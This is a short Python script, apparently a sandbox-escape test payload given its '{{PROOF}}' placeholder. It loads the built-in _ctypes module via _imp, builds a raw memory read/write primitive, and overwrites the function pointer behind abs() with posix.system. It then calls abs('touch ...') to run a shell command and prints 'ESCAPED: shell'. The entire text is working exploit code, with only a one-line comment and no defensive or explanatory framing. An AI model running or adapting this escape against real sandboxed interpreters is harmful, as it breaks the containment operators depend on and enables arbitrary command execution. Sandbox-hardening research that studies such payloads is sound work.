# point a built-in function at what runs shell commands
import _imp, importlib.machinery
def builtin(name):
    spec = importlib.machinery.ModuleSpec(name, importlib.machinery.BuiltinImporter, origin='built-in')
    module = _imp.create_builtin(spec)
    _imp.exec_builtin(module)
    return module

C = builtin('_ctypes')
class Byte(C._SimpleCData):
    _type_ = 'B'
def view(address, size):
    kind = type('Span', (C.Array,), {'_length_': size, '_type_': Byte})
    return memoryview(kind.from_address(address)).cast('B')

import posix
words = view(id(posix.system), 64).cast('I')
entry = view(words[2], 16).cast('I')
target = entry[1]
words = view(id(abs), 64).cast('I')
view(words[2], 16).cast('I')[1] = target
print('ESCAPED: shell') if abs('touch {{PROOF}}') == 0 else None
